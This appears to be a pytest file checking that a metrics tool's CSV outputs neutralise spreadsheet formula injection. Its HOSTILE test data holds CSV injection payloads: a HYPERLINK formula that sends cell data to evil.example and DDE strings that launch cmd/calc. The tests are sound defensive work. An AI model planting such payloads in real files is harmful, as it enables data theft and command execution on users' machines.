"""Every CSV the tool writes is safe to open in a spreadsheet (issue 14, case 5): names
such as `=HYPERLINK(...)`, `+cmd|` and `@SUM(` reach no cell unneutralised, in published
files, provider returns or the validation report; Parquet keeps the values as they were."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import polars as pl
from test_submit import ORGANISATIONS as SUBMIT_ORGANISATIONS
from test_submit import PERIOD, assessment_rows, make_warehouse, write_provider_data

from metrics_cli.returns.submit import submit

HOSTILE = {
    "A1": '=HYPERLINK("http://evil.example/?"&A1,"Abbey")',
    "A2": "+cmd|' /C calc'!A0",
    "A3": "@SUM(1+1)*cmd|' /C calc'!A0",
}
FORMULA = re.compile(r"^[ \t\r\n]*[=+\-@\t\r]")
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def formula_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if FORMULA.match(cell) and not NUMBER.match(cell)
    ]


def test_a_provider_return_never_starts_a_formula(tmp_path: Path) -> None:
    warehouse = make_warehouse(tmp_path / "warehouse.duckdb", SUBMIT_ORGANISATIONS)
    data = write_provider_data(tmp_path / "provider")
    hostile = assessment_rows(["N1"]).with_columns(pl.lit(HOSTILE["A1"]).alias("evidence"))
    hostile.write_csv(data / "maturity_assessments.csv")
    out = tmp_path / "p1.zip"

    assert submit(warehouse, "P1", PERIOD, data, out).ok

    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                text = archive.read(name).decode("utf-8")
                assert formula_cells(text) == [], name
        evidence = pl.read_csv(archive.read("maturity_assessments.csv"), infer_schema=False)
    assert evidence.get_column("evidence").to_list() == ["'" + HOSTILE["A1"]] * 2


def test_the_validation_report_never_starts_a_formula(tmp_path: Path) -> None:
    from test_validate_files import encounter, inputs, write

    from metrics_cli.validate import validate_directory

    data = inputs(tmp_path)
    write(
        data, "gp_encounters", [encounter(1, appt_mode=HOSTILE["A3"], clinician_id=HOSTILE["A2"])]
    )

    report = validate_directory(data, tmp_path / "out")

    assert report.datasets["gp_encounters"].rows_quarantined == 1
    for path in (tmp_path / "out").rglob("*.csv"):
        assert formula_cells(path.read_text(encoding="utf-8")) == [], path.name
    held = (tmp_path / "out" / "quarantine" / "gp_encounters.csv").read_text(encoding="utf-8")
    assert "'" + HOSTILE["A2"] in held
